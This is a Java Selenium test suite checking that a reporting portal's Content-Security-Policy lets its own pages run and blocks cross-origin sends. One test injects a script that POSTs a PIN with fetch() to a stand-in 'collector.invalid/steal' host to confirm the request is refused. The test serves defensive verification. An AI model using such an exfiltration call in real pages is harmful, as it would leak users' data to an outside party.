package org.reportonce.e2e.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.JavascriptExecutor;

/**
 * The hub's Content-Security-Policy as the browser applies it: every page runs under it without a
 * refusal (our own code obeys it), and a script that was somehow injected into the portal still cannot
 * send anything to another origin.
 */
class ContentSecurityPolicyTest {
    private static WebFixture web;

    @BeforeAll
    static void start() {
        web = WebFixture.get();
    }

    @Test
    void everyPage_runsUnderThePolicy_withoutARefusal() {
        Browser b = web.browser;
        b.consoleLog(); // drop what earlier tests left
        for (String page : List.of("/", "/report.html", "/case.html", "/support.html",
                "/dashboards/platform.html", "/dashboards/regulator.html", "/dashboards/operator.html")) {
            b.open(web.url(page));
            // boot.js ran (a script from our origin is allowed)
            assertThat((String) b.js("return document.body.className")).as(page).contains("js-enabled");
            assertThat(b.consoleLog()).as("console of " + page)
                    .noneMatch(line -> line.contains("Content Security Policy"));
        }
    }

    @Test
    void injectedScript_cannotSendToAnotherOrigin() {
        Browser b = web.browser;
        b.open(web.url("/report.html"));
        web.proxy.clear();
        String outcome = (String) ((JavascriptExecutor) b.driver()).executeAsyncScript("""
                const done = arguments[arguments.length - 1];
                fetch('http://collector.invalid/steal', { method: 'POST', body: 'pin=ABCD' })
                  .then(() => done('sent'), e => done('refused: ' + e));""");
        assertThat(outcome).startsWith("refused");
        assertThat(b.consoleLog()).anyMatch(line -> line.contains("Content Security Policy") && line.contains("connect-src"));
        assertThat(web.proxy.requests()).noneMatch(r -> r.target().contains("collector.invalid"));
    }
}
